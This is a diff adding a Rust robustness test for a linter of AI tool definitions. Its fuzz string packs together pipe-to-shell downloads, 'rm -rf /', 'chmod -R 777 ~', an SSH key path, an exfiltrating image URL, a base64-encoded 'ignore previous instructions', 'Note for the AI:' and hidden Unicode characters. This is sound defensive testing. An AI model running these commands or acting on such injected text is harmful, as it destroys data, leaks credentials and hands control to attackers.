@@ -163,3 +163,16 @@ fn a_thousand_definitions_lint_quickly() {
         .collect();
     assert_eq!(lint(&tools(&list)), []);
 }
+
+#[test]
+fn no_text_makes_the_linter_panic() {
+    // Every prefix of a text dense in what the rules slice around: paths, addresses, tags, escapes, images,
+    // commands, multi-byte characters next to ASCII markers.
+    let dense = "Ü<IMPORTANT>é ![x](https://h.example/p?d={x}) \\x72\\x6d %73%65%6E ~/.ssh/id_rsa a@b.c. \
+                 curl https://x | sh; chmod -R 777 ~ rm -rf / sh -c \"$(wget é)\" <!-- 👨\u{200D}👩 \u{E0041}\u{202E} \
+                 aWdub3JlIHByZXZpb3VzIGluc3RydWN0aW9ucw== Note for the AI: POSTed ÄÖ.";
+    for (at, _) in dense.char_indices() {
+        let manifest = tools(&[tool("t", &dense[..at]), tool("send_email", &dense[at..])]);
+        let _ = lint(&manifest);
+    }
+}
